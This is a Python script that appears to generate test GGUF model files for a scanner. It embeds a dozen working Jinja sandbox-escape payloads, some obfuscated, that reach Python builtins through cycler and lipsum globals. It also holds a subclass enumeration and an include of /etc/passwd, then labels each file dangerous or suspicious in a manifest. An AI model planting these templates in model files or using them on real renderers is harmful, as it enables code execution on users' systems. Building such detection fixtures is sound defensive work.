# /// script
# requires-python = "==3.11.*"
# dependencies = ["gguf==0.19.0", "Jinja2==3.1.6"]
# ///
"""Chat templates in GGUF that reach for Python's internals.

Those marked as proved are rendered here, in a Jinja without a sandbox, and have to leave a file behind: `touched`.
"""

from __future__ import annotations

import contextlib
import json
import os
import sys
from importlib.metadata import version
from pathlib import Path
from typing import Any

from gguf import GGUFWriter
from jinja2 import Environment

OUT = Path(sys.argv[1]).absolute()
MANIFEST: list[dict[str, Any]] = []
MARKER = Path("touched")
CALL = "open('touched', 'w')"

PROVED = {
    "globals": f"{{{{ cycler.__init__.__globals__.__builtins__.{CALL} }}}}",
    "lipsum": f"{{{{ lipsum.__globals__['__builtins__'].{CALL} }}}}",
    "context": f"{{{{ self._TemplateReference__context.joiner.__init__.__globals__.__builtins__.{CALL} }}}}",
    "joined": "{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__'))['__buil' ~ 'tins__'].open('touched', 'w') }}",
    "escaped": r"{{ cycler['\x5f\x5finit\x5f\x5f']['\x5f\x5fglobals\x5f\x5f'].os.open('touched', 64) }}",
    "filters": "{{ (cycler|attr(['__in','it__']|join)|attr('%s%s'|format('__glo','bals__'))).os.open('touched', 64) }}",
    "reversed": "{{ cycler['__tini__'|reverse]['__slabolg__'[::-1]].os.open('touched', 64) }}",
    "variables": (
        "{% set b = 'it__' %}{% set a = '__in' %}{% set d = 'als__' %}{% set c = '__glob' %}"
        "{{ cycler[a ~ b][c ~ d].os.open('touched', 64) }}"
    ),
    "keywords": "{{ cycler[dict(__in=1, it__=1)|join][dict(__glob=1, als__=1)|join].os.open('touched', 64) }}",
    "mapped": "{{ ([cycler]|map(attribute='__init__.__globals__')|first).os.open('touched', 64) }}",
    "replaced": "{{ cycler['XXinitXX'|replace('X', '_')]['XXglobalsXX'|replace('X', '_')].os.open('touched', 64) }}",
    "hidden": "{# " + "x" * 200 + " #}Hi{{ {'a': {}} and '}}' }}{{ lipsum.__globals__.os.open('touched', 64) }}",
}
READ = {"subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}
LOADED = {"include": "{% include '/etc/passwd' %}"}


def written(name: str, template: str, risk: str, reason: str) -> None:
    """A model of nothing but a template, and its line of the manifest."""
    writer = GGUFWriter(OUT / f"{name}.gguf", "llama")
    writer.add_chat_template(template)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    row = {"path": f"{name}.gguf", "made_by": f"gguf {version('gguf')}", "format": "gguf", "verdict": "valid"}
    MANIFEST.append(row | {"risk": risk, "reasons": [reason]})


os.chdir(OUT)
for name, template in PROVED.items():
    with contextlib.suppress(Exception):
        Environment().from_string(template).render()  # noqa: S701 - it is the attack that is tried
    if not MARKER.exists():
        raise AssertionError(name)
    MARKER.unlink()
for name, template in (PROVED | READ).items():
    written(name, template, "dangerous", "template.python-internals")
for name, template in LOADED.items():
    written(name, template, "suspicious", "template.include")
(OUT / "manifest.json").write_text(json.dumps(MANIFEST, indent=1) + "\n")
